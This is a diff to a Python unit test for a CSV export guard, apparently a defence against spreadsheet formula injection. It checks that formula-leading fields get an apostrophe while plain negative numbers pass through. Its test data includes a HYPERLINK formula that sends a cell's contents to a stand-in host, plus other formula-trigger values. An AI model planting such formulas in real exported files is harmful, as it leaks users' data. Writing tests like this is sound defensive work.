@@ -12,11 +12,13 @@ ATTACK = '=HYPERLINK("https://contoh.invalid/?"&A2,"Klik")'
 
 
 def test_csv_fields_a_spreadsheet_would_run_get_an_apostrophe() -> None:
-    row = [ATTACK, "+62812", "-5", "@SUM(A1)", "\tx", "biasa", 7, None, ""]
+    row = [ATTACK, "+62812", "-5+A1", "@SUM(A1)", "\tx", "biasa", 7, None, "", "-5", "-1.50"]
     guarded = csv_row(row)
-    assert guarded[:5] == [f"'{ATTACK}", "'+62812", "'-5", "'@SUM(A1)", "'\tx"]
-    assert guarded[5:] == ["biasa", 7, None, ""]
+    assert guarded[:5] == [f"'{ATTACK}", "'+62812", "'-5+A1", "'@SUM(A1)", "'\tx"]
+    # a negative number stays a number (a score gap of -1.50 is not a formula)
+    assert guarded[5:] == ["biasa", 7, None, "", "-5", "-1.50"]
     assert [from_csv(v) for v in guarded[:6]] == row[:6]
+    assert from_csv("-1.50") == "-1.50"
     assert from_csv("'kutip biasa") == "'kutip biasa"  # an apostrophe of its own stays
 
 
